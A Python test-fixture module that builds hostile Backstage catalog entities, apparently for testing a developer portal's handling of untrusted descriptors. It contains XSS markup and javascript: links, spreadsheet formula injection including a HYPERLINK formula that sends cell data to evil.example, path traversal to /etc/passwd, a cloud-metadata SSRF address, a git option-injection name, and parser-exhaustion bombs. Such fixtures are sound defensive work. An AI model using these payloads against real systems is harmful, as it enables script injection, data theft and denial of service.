"""Descriptors that try to become more than entities, and entities that try to be somebody else's.

`repositories` gives each attack as the files of a repository of its own, by the attack's name.
"""

from __future__ import annotations

import json
from typing import Any

MARKUP = "\"'><img src=x onerror=__xss(1)></title></script><script>__xss(1)</script>"
"""Breaks out of text, attributes, titles and scripts."""
FORMULA = "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")"
"""What a spreadsheet computes when it opens a table."""


def _component(name: str = "attack", **metadata: Any) -> dict[str, Any]:
    return {
        "apiVersion": "backstage.io/v1alpha1",
        "kind": "Component",
        "metadata": {"name": name, **metadata},
        "spec": {"type": "service", "lifecycle": "production", "owner": "group:default/attackers"},
    }


def _entity(kind: str, name: str, spec: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {
        "apiVersion": "backstage.io/v1alpha1", "kind": kind, "metadata": {"name": name, **metadata}, "spec": spec,
    }


def _spec(**spec: Any) -> dict[str, Any]:
    component = _component()
    component["spec"].update(spec)
    return component


def _links(*addresses: str) -> list[dict[str, str]]:
    return [{"url": address, "title": MARKUP, "icon": "../../../etc/passwd", "type": MARKUP} for address in addresses]


def _api(kind: str, definition: Any) -> dict[str, Any]:
    return _entity("API", "attack", {"type": kind, "lifecycle": "production", "owner": "x", "definition": definition})


_TEMPLATE = {
    "apiVersion": "scaffolder.backstage.io/v1beta3",
    "kind": "Template",
    "metadata": {"name": "attack", "title": "${{ secrets.TOKEN }}" + MARKUP},
    "spec": {
        "type": "service",
        "parameters": [{"title": MARKUP, "properties": {MARKUP: {"type": "string", "title": "${{ 7 * 7 }}", "ui:help": MARKUP}}}],
        "steps": [{"id": "x", "name": MARKUP, "action": "debug:log", "input": {"message": "${{ environ }}{{ 7*7 }}"}}],
        "output": {"links": [{"title": MARKUP, "url": "javascript:__xss(1)"}]},
    },
}

ENTITIES: dict[str, dict[str, Any]] = {
    "title": _component(title=MARKUP),
    "title-formula": _component(title=FORMULA),
    "title-formulas": _component(title="@SUM(1+1)*cmd|' /C calc'!A0", description="+1+1\t=1+1", tags=["-x"]),
    "title-bidi": _component(title="invoice\u202egnp.exe\u2066\u200f"),
    "title-controls": _component(title="a\x1b[31mred\x1b]8;;https://evil.example\x07link\x9b2J"),
    "title-lines": _component(title="a\n::error file=x::forged\n##vso[task.setvariable variable=x]y\r\nerror: forged [forged]"),
    "title-template": _component(title="{{ site.title }}{% include 'x' %}${{ 1 }}$&%%x%%"),
    "title-mermaid": _component(title="x\"]; click A \"javascript:__xss(1)\"; %%{init: {}}%%"),
    "title-markdown": _component(title="[x](javascript:__xss(1)) ![y](https://evil.example/x.png) <script>__xss(1)</script>"),
    "title-xml": _component(title="]]><script xmlns='http://www.w3.org/1999/xhtml'>__xss(1)</script><![CDATA[ &xxe; \x0b"),
    "title-line-separators": _component(title="a\u2028b\u2029</script>c\u0000d"),
    "title-surrogate": _component(title="\ud800 \udfff \uffff"),
    "description": _component(description=f"# {MARKUP}\n\n<script>__xss(1)</script>\n\n[x](javascript:__xss(1))"),
    "description-long": _component(description="<b>" * 200_000),
    "name-traversal": _component(name="../../../../escaped"),
    "name-encoded-traversal": _component(name="..%2f..%2fescaped"),
    "name-dots": _component(name=".."),
    "name-absolute": _component(name="/etc/escaped"),
    "name-backslash": _component(name="..\\..\\escaped"),
    "name-nul": _component(name="a\0b"),
    "name-markup": _component(name=MARKUP),
    "name-proto": _component(name="__proto__"),
    "name-constructor": _component(name="constructor"),
    "name-reserved": _component(name="con"),
    "name-reserved-extension": _component(name="aux.json"),
    "name-hyphen": _component(name="-"),
    "name-options": _component(name="--upload-pack=touch-x"),
    "name-long": _component(name="a" * 5_000),
    "name-unicode": _component(name="ａｔｔａｃｋ"),
    "name-number": _component(name=12345678901234567890),  # type: ignore[arg-type]
    "name-object": _component(name={"$text": "/etc/passwd"}),  # type: ignore[arg-type]
    "namespace-traversal": _component(namespace="../.."),
    "namespace-hyphen": _component(namespace="-"),
    "namespace-own": _component(namespace="-/kind"),
    "kind-traversal": {**_component(), "kind": "../../Component"},
    "kind-markup": {**_component(), "kind": MARKUP},
    "labels": _component(labels={MARKUP: MARKUP, "__proto__": "x", "a/b": FORMULA}),
    "annotations": _component(annotations={
        "backstage.io/view-url": "javascript:__xss(1)", "backstage.io/edit-url": "data:text/html,<script>__xss(1)</script>",
        "backstage.io/source-location": "url:javascript:__xss(1)", "backstage.io/managed-by-location": "file:/etc/passwd",
        "github.com/project-slug": MARKUP, "jenkins.io/job-full-name": "../../" + MARKUP, "pagerduty.com/service-id": "//evil.example",
        "sonarqube.org/project-key": "x&y=<script>", "sentry.io/project-slug": "javascript:__xss(1)", "grafana/dashboard-selector": MARKUP,
        "argocd/app-name": "..//evil.example/", "backstage.io/kubernetes-id": "@evil.example", "backstage.io/adr-location": "../../../../etc",
        "graph.microsoft.com/user-id": MARKUP, "backstage.io/orphan": "true", "callboard/hidden": MARKUP, MARKUP: MARKUP,
    }),
    "links": _component(links=_links(
        "javascript:__xss(1)", "JaVaScRiPt:__xss(1)", "java\nscript:__xss(1)", "\x01javascript:__xss(1)", "data:text/html,<script>__xss(1)</script>",
        "vbscript:x", "//evil.example", "/\\evil.example", "\\\\evil.example", "https://user:password@evil.example", "https://evil.example/\"onclick=__xss(1)",
        "file:///etc/passwd", "blob:https://evil.example/1", "view-source:javascript:__xss(1)", "mailto:x@y?attach=/etc/passwd", "https:evil.example", "",
        "slack://x", "ｊavascript:__xss(1)", "&#106;avascript:__xss(1)", "https://evil.example/\u202e", "x" * 10_000)),
    "links-many": _component(links=[{"url": f"https://example.com/{index}"} for index in range(20_000)]),
    "links-shape": _component(links=[None, 1, "javascript:__xss(1)", {"url": ["javascript:__xss(1)"]}, {"url": {"$text": "/etc/passwd"}}]),
    "tags": _component(tags=[MARKUP, "__proto__", "../../x", "-", ".", "con", "a" * 300, "A", "a", FORMULA]),
    "type": _spec(type=MARKUP),
    "type-traversal": _spec(type="../../../escaped"),
    "type-proto": _spec(type="__proto__", lifecycle="constructor"),
    "type-hyphen": _spec(type="-", lifecycle="."),
    "lifecycle": _spec(lifecycle=MARKUP),
    "owner": _spec(owner=MARKUP),
    "owner-traversal": _spec(owner="group:../../..", system="../../../x", subcomponentOf="component:default/..%2f"),
    "owner-claims": _spec(owner="group:default/victims"),
    "relations-many": _spec(dependsOn=[f"component:default/other-{index}" for index in range(20_000)]),
    "relations-markup": _spec(dependsOn=[MARKUP, "javascript:__xss(1)", "resource:default/x\"onclick=__xss(1)"], providesApis=[MARKUP, "../x"], consumesApis=["api:-/-"]),
    "relations-self": _spec(dependsOn=["component:default/attack"], subcomponentOf="component:default/attack"),
    "api-openapi": _api("openapi", json.dumps({
        "openapi": "3.0.0", "info": {"title": MARKUP, "version": MARKUP, "description": "<script>__xss(1)</script>[x](javascript:__xss(1))",
                                       "termsOfService": "javascript:__xss(1)", "contact": {"url": "javascript:__xss(1)", "email": MARKUP}},
        "servers": [{"url": "javascript:__xss(1)", "description": MARKUP}], "externalDocs": {"url": "javascript:__xss(1)"},
        "paths": {f"/{MARKUP}": {"get": {"summary": MARKUP, "operationId": "__proto__", "tags": [MARKUP], "responses": {"200": {"description": MARKUP}}}},
                  "/__proto__": {"get": {"responses": {}}}}})),
    "api-asyncapi": _api("asyncapi", json.dumps({"asyncapi": "2.0.0", "info": {"title": MARKUP, "version": "1"}, "channels": {MARKUP: {"publish": {"message": {"name": MARKUP}}}}})),
    "api-graphql": _api("graphql", f"\"\"\"{MARKUP}\"\"\"\ntype Query {{ x(a: String = \"{MARKUP}\"): Int }}"),
    "api-grpc": _api("grpc", f"// {MARKUP}\nservice X {{ rpc Y (A) returns (B); }}\n/* <script>__xss(1)</script>"),
    "api-type": _api(MARKUP, MARKUP),
    "api-bomb": _api("openapi", json.dumps({"openapi": "3.0.0", "info": {"title": "x", "version": "1"}, "paths": {}, "components": {"schemas": {
        **{f"s{i}": {"allOf": [{"$ref": f"#/components/schemas/s{i + 1}"}] * 10} for i in range(30)}, "s30": {"type": "string"}}}})),
    "api-cycle": _api("openapi", json.dumps({"openapi": "3.0.0", "info": {"title": "x", "version": "1"}, "paths": {"/a": {"$ref": "#/paths/~1b"}, "/b": {"$ref": "#/paths/~1a"}}})),
    "api-remote": _api("openapi", json.dumps({"openapi": "3.0.0", "info": {"title": "x", "version": "1"}, "paths": {"/a": {"$ref": "https://evil.example/x.yaml#/x"}, "/b": {"$ref": "/etc/passwd"}, "/c": {"$ref": "file:///etc/passwd"}}})),
    "api-deep": _api("openapi", "{\"a\":" * 100_000 + "1" + "}" * 100_000),
    "api-graphql-deep": _api("graphql", "type Query { x(a: Int = " + "[" * 100_000 + "]" * 100_000 + "): " + "[" * 100_000 + "Int" + "]" * 100_000 + " }"),
    "api-grpc-deep": _api("grpc", "message A {" * 50_000 + "}" * 50_000 + "/*" * 50_000),
    "api-markup-deep": _api("wsdl", "<a>" * 100_000),
    "user": _entity("User", "attack", {"profile": {"displayName": MARKUP, "email": "x\"><script>__xss(1)</script>@y?bcc=z", "picture": "javascript:__xss(1)"}, "memberOf": ["admins"]}),
    "user-picture": _entity("User", "attack", {"profile": {"displayName": FORMULA, "email": "javascript:__xss(1)", "picture": "https://evil.example/pixel.png"}, "memberOf": ["victims"]}),
    "user-picture-svg": _entity("User", "attack", {"profile": {"displayName": "x", "picture": "data:image/svg+xml,<svg onload=__xss(1)>"}, "memberOf": []}),
    "group": _entity("Group", "attackers", {"type": MARKUP, "profile": {"displayName": MARKUP, "email": MARKUP, "picture": "//evil.example/x"}, "parent": "attackers", "children": ["attackers", MARKUP]}),
    "group-cycle": _entity("Group", "loop", {"type": "team", "parent": "loop", "children": ["loop"], "members": ["attack"] * 1000}),
    "location": _entity("Location", "attack", {"type": "url", "target": "https://evil.example/catalog-info.yaml", "targets": ["../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://169.254.169.254/latest", "./**/../../../*", "./catalog-info.yaml", "\0", MARKUP]}),
    "location-loop": _entity("Location", "loop", {"targets": ["./catalog-info.yaml", "././catalog-info.yaml"]}),
    "template": _TEMPLATE,
    "domain": _entity("Domain", "attack", {"owner": MARKUP, "subdomainOf": "attack", "type": MARKUP}),
    "system": _entity("System", "attack", {"owner": "x", "domain": MARKUP}),
    "resource": _entity("Resource", "attack", {"type": MARKUP, "owner": "x", "dependencyOf": [MARKUP]}),
    "steals-name": _component(name="payments", title="Stolen"),
    "steals-other-case": _component(name="Payments", title="Stolen too"),
    "unknown-kind": _entity(MARKUP, "attack", {MARKUP: MARKUP}),
    "uid": _component(uid=MARKUP, etag=MARKUP, generation=MARKUP, relations=[{"type": MARKUP}]),
    "extra-fields": {**_component(), MARKUP: MARKUP, "status": {"items": [{"level": MARKUP}]}, "relations": [{"type": "ownedBy", "targetRef": "javascript:__xss(1)"}]},
    "wrong-shapes": {"apiVersion": [MARKUP], "kind": {"x": 1}, "metadata": [1, 2], "spec": MARKUP},
    "techdocs": _component(annotations={"backstage.io/techdocs-ref": "url:https://evil.example/x", "backstage.io/techdocs-entity": "component:default/payments", "backstage.io/techdocs-entity-path": "/../../x"}),
    "techdocs-claims": _component(annotations={"backstage.io/techdocs-ref": "dir:.", "backstage.io/techdocs-entity": MARKUP}),
}
"""The one entity of each attack."""

TEXTS: dict[str, bytes] = {
    "many-entities": b"".join(
        f"---\napiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata: {{name: many-{index}}}\nspec: {{type: x, lifecycle: y, owner: z}}\n".encode()
        for index in range(400)
    ),
    "chain-of-groups": b"".join(
        f"---\napiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata: {{name: chain-{index}}}\nspec: {{type: team, children: [], parent: chain-{index + 1}}}\n".encode()
        for index in range(300)
    ),
    "everyone-on-everyone": b"".join(
        f"---\napiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata: {{name: dense-{index}}}\nspec: {{type: x, lifecycle: y, owner: z, dependsOn: [{', '.join(f'component:dense-{other}' for other in range(60))}]}}\n".encode()
        for index in range(60)
    ),
    "many-namespaces": b"".join(
        f"---\napiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata: {{name: one, namespace: space-{index}}}\nspec: {{type: t{index}, lifecycle: l{index}, owner: o{index}}}\n".encode()
        for index in range(200)
    ),
    "json-with-nul": b'{"apiVersion": "backstage.io/v1alpha1", "kind": "Component\\u0000", "metadata": {"name": "a\\u0000"}}',
    "binary": bytes(range(256)) * 40,
    "empty": b"",
    "only-separators": b"---\n" * 5_000,
}
"""Whole descriptors."""

COUNT = len(ENTITIES) + len(TEXTS)


def repositories() -> dict[str, dict[str, bytes]]:
    """The files of a repository for each attack; all have a page of docs that is beyond reproach."""
    found: dict[str, dict[str, bytes]] = {}
    for name, entity in ENTITIES.items():
        # JSON is YAML, and its escapes leave nothing to the characters of a value.
        found[name] = {"catalog-info.yaml": json.dumps(entity).encode(), "docs/index.md": b"# Honest\n"}
    for name, text in TEXTS.items():
        found[name] = {"catalog-info.yaml": text}
    return found
